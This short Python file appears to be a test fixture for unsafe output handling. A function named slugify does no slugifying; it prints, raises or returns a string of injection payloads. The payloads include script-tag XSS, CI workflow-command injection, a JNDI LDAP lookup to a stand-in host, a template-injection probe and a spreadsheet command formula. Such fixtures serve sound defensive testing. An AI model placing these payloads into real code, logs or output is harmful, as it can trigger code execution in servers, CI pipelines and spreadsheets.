TEXT = "<script>alert(1)</script> ![x](http://192.0.2.1/x.png) ::error file=a::b ##vso[task.setvariable variable=a]b %0A::set-output name=a::b ${jndi:ldap://192.0.2.1/a} {{7*7}} =cmd|'/c x'!A1 | a | b |\n```\n# h"


class Markup(Exception):
    __qualname__ = TEXT


def slugify(text, max_length=60):
    print(TEXT)
    if len(text) % 2:
        raise Markup(TEXT)
    return TEXT
